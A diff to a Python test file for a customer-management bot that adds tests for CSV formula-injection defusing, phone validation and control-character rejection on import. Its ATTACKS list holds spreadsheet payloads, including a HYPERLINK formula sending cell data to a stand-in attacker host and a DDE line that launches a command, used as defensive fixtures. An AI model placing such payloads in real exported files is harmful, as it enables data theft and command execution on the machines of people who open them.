@@ -18,9 +18,10 @@ from bot.domain.clock import FakeClock
 from bot.domain.context import Services
 from bot.domain.lookup import member_for
 from bot.domain.setup import sync_config
-from bot.exporter import HEADER, ExportError, export_csv
+from bot.exporter import HEADER, ExportError, export_csv, export_file
 from bot.importer import ImportFileError, ImportReport, RowError, import_file
 from bot.storage.engine import Database
+from bot.storage.migrate import upgrade
 from bot.storage.models import Customer, OwnershipEvent
 from bot.storage.teams import pool_by_name
 
@@ -430,22 +431,110 @@ def test_an_export_imports_back_as_all_duplicates(services: Services, tmp_path: 
     assert "owner" in report.ignored_columns
 
 
-def test_export_defuses_spreadsheet_formulas_but_keeps_phones(services: Services) -> None:
-    with services.db.write() as session:
-        found = pool_by_name(session, POOL)
-        assert found is not None and found.id is not None
-        add_customers(
-            session,
-            pool_id=found.id,
-            now=services.clock.now(),
-            customers=[
-                NewCustomer('=HYPERLINK("http://evil")', phone="+86 138 0000 0000", tags="@boss"),
-            ],
-        )
-    out = io.StringIO()
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "=1+1",
+    "@SUM(A1:A9)",
+    "-2+3",
+    "+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+]
+
+
+def test_export_defuses_formulas_in_every_column_the_phone_included(services: Services) -> None:
+    """OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading quote, in
+    every column, and every cell is quoted (a ; or , inside cannot start a new cell)."""
+    seed(
+        services,
+        POOL,
+        *(
+            NewCustomer(
+                f"{attack} {i}", contact=attack, phone=attack[:40], email=attack, region=attack, tags=attack
+            )
+            for i, attack in enumerate(ATTACKS)
+        ),
+        NewCustomer("Plain", phone="+86 138 0000 0000", region="a;=1+1"),
+    )
+    out = io.StringIO(newline="")
     export_csv(services.db, out, pool_name=POOL)
-    row = next(r for r in csv.reader(io.StringIO(out.getvalue())) if "HYPERLINK" in r[1])
-    assert row[1].startswith("'=") and row[3] == "+86 138 0000 0000" and row[10] == "'@boss"
+    text = out.getvalue()
+    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
+    for row in rows:
+        for cell in row:
+            assert cell.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r"), (cell, row)
+    plain = next(r for r in rows if r[1] == "Plain")
+    assert plain[3] == "'+86 138 0000 0000" and plain[6] == "a;=1+1"
+    assert text.startswith('"id","name",') and '"a;=1+1"' in text  # every cell quoted
+
+
+def test_an_export_with_defused_phones_imports_back_as_typed(
+    services: Services, config: PoolbotConfig, tmp_path: Path
+) -> None:
+    seed(services, "east-vip", NewCustomer("Acme", phone="+86 138 0000 0001", region="-north-"))
+    path = tmp_path / "export.csv"
+    export_file(services.db, path)
+    fresh_url = f"sqlite:///{tmp_path / 'fresh.db'}"
+    upgrade(fresh_url)
+    fresh = Database.from_url(fresh_url)
+    sync_config(fresh, config)
+
+    report = import_file(fresh, services.clock, path, pool_name=POOL)
+
+    assert (report.imported, report.errors) == (1, ())
+    acme = customers(fresh)["Acme"]
+    assert (acme.phone, acme.region) == ("+86 138 0000 0001", "-north-")
+    fresh.dispose()
+
+
+@pytest.mark.parametrize(
+    "phone",
+    [
+        "13800138000",
+        "+86 138-0013-8000",
+        "(021) 5555 0101",
+        "+1 555 0100 x123",
+        "0571-8888 0000转123",
+        "+44 20 7946 0958 ext. 12",
+        "１３８００１３８０００",
+    ],
+)
+def test_import_accepts_phone_numbers_with_extensions(services: Services, tmp_path: Path, phone: str) -> None:
+    path = write_csv(tmp_path / "c.csv", [["name", "phone"], ["Acme", phone]])
+    report = run(services, path)
+    assert (report.imported, report.errors) == (1, ())
+
+
+@pytest.mark.parametrize(
+    "phone", ['=HYPERLINK("http://x")', "@SUM(A1)", "call me", "138/139", "-", "x123", "1+1"]
+)
+def test_import_refuses_a_phone_that_is_not_a_phone(services: Services, tmp_path: Path, phone: str) -> None:
+    path = write_csv(tmp_path / "c.csv", [["name", "phone"], ["Acme", phone], ["Globex", "13800138000"]])
+    report = run(services, path)
+    assert report.imported == 1
+    assert [e.line for e in report.errors] == [2]
+    assert "is not a phone number" in report.errors[0].message
+    assert set(customers(services.db)) == {"Globex"}
+
+
+def test_import_refuses_nul_and_control_characters_per_row(services: Services, tmp_path: Path) -> None:
+    """PostgreSQL refuses NUL in text: the row is an error, the other rows are imported (both DBs)."""
+    path = tmp_path / "nul.csv"
+    path.write_bytes(
+        b"name,contact,notes\nGood One,Ann,\nBad\x00Name,Bob,\nAlso Bad,Ca\x07rl,\n"
+        b"Good Two,Dan,ignored \x00 column\n"
+    )
+
+    report = run(services, path)
+
+    assert report.imported == 2
+    assert [(e.line, e.message.split(";")[0]) for e in report.errors] == [
+        (3, "name contains a NUL byte"),
+        (4, "contact contains the control character U+0007"),
+    ]
+    assert set(customers(services.db)) == {"Good One", "Good Two"}
+    assert run(services, path, dry_run=True).errors == report.errors
 
 
 def test_priority_words_typed_with_a_chinese_input_method_are_understood(
